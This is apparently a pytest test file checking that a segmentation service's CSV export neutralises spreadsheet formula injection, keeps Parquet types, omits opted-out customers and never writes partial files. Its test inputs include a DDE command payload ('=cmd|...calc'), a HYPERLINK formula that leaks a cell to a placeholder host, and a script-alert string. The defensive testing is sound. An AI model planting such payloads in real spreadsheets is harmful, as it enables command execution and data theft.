"""What leaves by `segmenter export` is no formula, is what the store holds, and is there whole or not at all (S6)."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import msgspec
import numpy as np
import pandas as pd
import pytest

from consumer.commands.export import export, read_ids
from consumer.exits import Stop
from consumer.service import open_state
from features.vector import NAMES
from models.bundle import Bundle, Segment, content_hash
from models.bundle import encode as encode_bundle
from models.redis_registry import RedisRegistry
from tests.harness.fault import Fault
from tests.harness.live import Live
from tests.harness.world import FIRST_DAY, line

TODAY = FIRST_DAY + timedelta(days=3)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A2,"click")',
    "=cmd|'/c calc'!A1",
    "+1",
    "-1",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "'=1+1",
    "'quoted",
)
"""Ids that a spreadsheet would run, and ids that an apostrophe in front could be mistaken for."""
HARMLESS = (
    "a=1",
    'say "hi"',
    "a,b",
    "a;b",
    "two\nlines",
    "cr\rlf\r\n!",
    "<script>alert(1)</script>",
    "NA",
    "007",
    "1e5",
)
RETURNS = "returns only"
SEGMENTS = ("=2+5", "@loyal", "\tindented")


def at_rest(lives: Callable[..., Live]) -> Live:
    """A world at rest: half of the ids came with the history, half by the stream."""
    world = lives(partitions=2, emit="all")
    plain = [f"c{n}" for n in range(12)]
    names = [*FORMULAS, *HARMLESS, *plain]
    sold = [line(who, FIRST_DAY, invoice_no=f"i{n}", unit_price=1.5 + n) for n, who in enumerate(names)]
    world.bootstrap([*sold[::2], line("c1", FIRST_DAY, invoice_no="i-last")])
    back = line(RETURNS, TODAY, invoice_no="C1", quantity=-3, unit_price=2.25)
    world.publish([*({**each, "invoice_date": f"{TODAY}T10:00:00"} for each in sold[1::2]), back])
    world.tick(TODAY + timedelta(days=1))
    world.start(FIXED_MODEL="yes")
    world.settle()
    world.end()
    return world


def hostile_names(live: Live) -> dict[int, Bundle]:
    """Let the models' segments be called as a formula is, as if they had been published so: hash and all."""
    client, binding, _ = open_state(live.settings)
    registry = RedisRegistry(client, live.settings.namespace, binding.generation)
    found = {}
    for version in {state.sweep.version for state in live.states().values()}:
        bundle = registry.load(version)
        assert bundle is not None
        named = tuple(Segment(old.id, new) for old, new in zip(bundle.segments, SEGMENTS, strict=True))
        found[version] = msgspec.structs.replace(bundle, segments=named)
        prefix = f"{{{live.settings.namespace}:model}}:{binding.generation}:"
        client.set(f"{prefix}{version}", encode_bundle(found[version]))
        client.hset(f"{prefix}hashes", str(version), content_hash(found[version]))
    return found


def published(live: Live) -> dict[str, dict[str, Any]]:
    """Return everybody's newest record; with `emit=all` it is of the partitions' present day."""
    found = {}
    for record in live.output():
        assert record.key is not None
        assert record.value is not None
        found[record.key.decode()] = json.loads(record.value)
    return found


def expected(live: Live, models: dict[int, Bundle]) -> dict[str, dict[str, Any]]:
    """Return the rows by id, put together from what was published."""
    names = {segment.id: segment.name for bundle in models.values() for segment in bundle.segments}
    rows = {}
    for who, record in published(live).items():
        before = record["previous"] or {"id": None, "name": None}
        rows[who] = {
            "segment_id": record["segment"]["id"],
            "segment": names.get(record["segment"]["id"], record["segment"]["name"]),
            "previous_id": before["id"],
            "previous": names.get(before["id"], before["name"]),
            "entered_on": record["entered_on"],
            "revision": record["revision"],
            "as_of": record["as_of"],
            **{name: record["features"][name] for name in NAMES},
            "model_version": record["model_version"],
        }
    return rows


def taken_off(cell: str) -> str:
    return cell.removeprefix("'")


def nothing(*_: object) -> None:
    """Tell nobody."""


@pytest.mark.fault("S6")
def test_an_exported_text_is_no_formula_and_every_cell_is_what_the_store_holds(
    lives: Callable[..., Live], fault: Fault, tmp_path: Path
) -> None:
    live = at_rest(lives)
    live.verify()
    models = hostile_names(live)
    rows = expected(live, models)
    assert rows.keys() == live.customers().keys() == {*FORMULAS, *HARMLESS, RETURNS, *(f"c{n}" for n in range(12))}
    fault.inject(len(FORMULAS))
    where = tmp_path / "segments.csv"
    done = live.shell()(["export", "--out", str(where), "--json"])
    assert done.code == 0, done.err
    assert "exporting" in done.err
    with where.open(encoding="utf-8", newline="") as file:
        read = list(csv.DictReader(file))
    by_id = {taken_off(row["customer_id"]): row for row in read}
    assert len(read) == len(by_id) == done.json["customers"]
    assert by_id.keys() == rows.keys()
    texts = ("customer_id", "segment", "previous")
    for row in read:
        assert not row["customer_id"].startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
        assert not row["segment"].startswith(("=", "@", "\t"))
    shown = sum(by_id[who]["customer_id"] == f"'{who}" for who in FORMULAS)
    risky = sum(row[name].startswith("'") for row in read for name in texts)
    assert done.json["escaped"] == risky
    for who, row in by_id.items():
        assert {name: value for name, value in row.items() if name != "customer_id"} == as_text(rows[who])
    assert float(by_id[RETURNS]["monetary"]) == -6.75
    assert by_id[RETURNS]["monetary"][0] == "-"
    as_pandas_reads(where, rows)
    parquet_is_typed_and_untouched(live, tmp_path / "segments.parquet", rows)
    fault.fired(shown)
    who_opted_out_is_left_out(live, tmp_path)
    nothing_is_half_written(live, fault, tmp_path / "out")
    fault.unstreamed("reads only; everybody is there once")


def as_text(row: dict[str, Any]) -> dict[str, str]:
    """Return a row as its cells are written by hand."""
    found = {}
    for name, value in row.items():
        if isinstance(value, str) and value[:1] in ("=", "@", "\t"):
            found[name] = f"'{value}"
        elif isinstance(value, float):
            found[name] = np.format_float_positional(value, trim="-")
        else:
            found[name] = "" if value is None else str(value)
    return found


def as_pandas_reads(path: Path, rows: dict[str, dict[str, Any]]) -> None:
    frame = pd.read_csv(path, dtype={"customer_id": str}, keep_default_na=False, na_values={n: [""] for n in NAMES})
    frame.index = pd.Index([taken_off(who) for who in frame["customer_id"]])
    assert set(frame.index) == rows.keys()
    for name in NAMES:
        assert frame[name].dtype.kind in "if"
        for who, row in rows.items():
            value: Any = frame.loc[who, name]
            assert value == row[name] or (np.isnan(value) and row[name] is None)


def parquet_is_typed_and_untouched(live: Live, path: Path, rows: dict[str, dict[str, Any]]) -> None:
    done = export(live.settings, path, frozenset(), nothing)
    assert done.escaped == 0
    frame = pd.read_parquet(path).set_index("customer_id")
    assert done.customers == len(frame) == len(rows)
    for who, row in rows.items():
        found = frame.loc[who]
        assert found["segment"] == row["segment"]
        assert found["entered_on"] == date.fromisoformat(row["entered_on"])
        assert found["revision"] == row["revision"]
        assert found["monetary"] == row["monetary"]


def who_opted_out_is_left_out(live: Live, folder: Path) -> None:
    opted = folder / "opted.txt"
    opted.write_bytes("\ufeff=1+1\r\n\r\n a,b \nnobody\n".encode())
    target = folder / "without.parquet"
    done = export(live.settings, target, read_ids(opted), nothing)
    assert (done.opted_out, done.unknown, done.customers) == (2, 1, len(live.customers()) - 2)
    assert set(pd.read_parquet(target)["customer_id"]) == live.customers().keys() - {"=1+1", "a,b"}


def nothing_is_half_written(live: Live, fault: Fault, folder: Path) -> None:
    """A state that cannot be trusted, a folder that takes no file: what stood there stays, with nothing beside it."""
    folder.mkdir()
    target = folder / "segments.csv"
    export(live.settings, target, frozenset(), nothing)
    whole = target.read_bytes()
    assert target.stat().st_mode & 0o077 == 0
    key = next(k for p in range(2) if live.client.exists(k := live.store().keys.customer(p, "c5")))
    kept = live.client.get(key)
    assert isinstance(kept, bytes)
    live.client.set(key, kept[:-1] + bytes([kept[-1] ^ 1]))
    fault.inject(2)
    with pytest.raises(Stop, match="cannot be trusted") as caught:
        export(live.settings, target, frozenset(), nothing)
    assert not re.search(r"\bc5\b", str(caught.value)), "a keyed hash may hold any two characters"
    fault.fired()
    live.client.set(key, kept)
    with pytest.raises(Stop, match="nothing was written"):
        export(live.settings, Path("/proc/self/segments.csv"), frozenset(), nothing)
    fault.fired()
    assert (target.read_bytes(), [each.name for each in folder.iterdir()]) == (whole, ["segments.csv"])
